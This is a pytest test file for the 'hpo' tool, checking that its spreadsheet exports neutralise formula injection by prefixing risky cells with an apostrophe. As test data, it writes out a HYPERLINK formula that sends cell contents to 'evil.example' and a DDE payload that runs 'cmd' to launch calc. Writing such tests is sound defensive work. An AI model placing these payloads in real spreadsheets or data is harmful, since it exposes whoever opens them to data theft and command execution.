"""What `hpo` writes for spreadsheets holds no formula that data or a database brought along."""

from __future__ import annotations

import csv
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
import sqlalchemy as sa

from hpo.harmless import cell
from hpo.predictions import _cell
from tests.security.parts import hostile_study
from tests.store.test_database import run

Run = Callable[..., subprocess.CompletedProcess[str]]
FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"click")'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", " =1", "\uff1d1+1", "-", "=="])
def test_text_that_a_spreadsheet_would_compute_gets_an_apostrophe(text: str) -> None:
    assert cell(text) == _cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "adam", "-1", "+0.5", "-1e-5", "-inf", "S12", "a=b", "2026-01-01", "'quoted"])
def test_numbers_and_names_stay(text: str) -> None:
    assert cell(text) == text


def test_an_export_holds_no_formula(hpo: Run, url: str, tmp_path: Path) -> None:
    hostile_study(url)
    run(url, f"UPDATE hpo_leases SET worker = '{FORMULA}'")
    engine = sa.create_engine(url)
    with engine.connect() as connection:
        name = connection.execute(sa.text("SELECT study_name FROM studies")).scalar_one()
    engine.dispose()
    done = hpo("export", name, "-o", "trials.csv", storage=url)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader((tmp_path / "trials.csv").read_text().splitlines()))
    assert [row["worker"] for row in rows] == [f"'{FORMULA}"] * 2
    assert float(rows[0]["optimizer.lr"]) == 0.1 and rows[0]["value"] == "0.5"
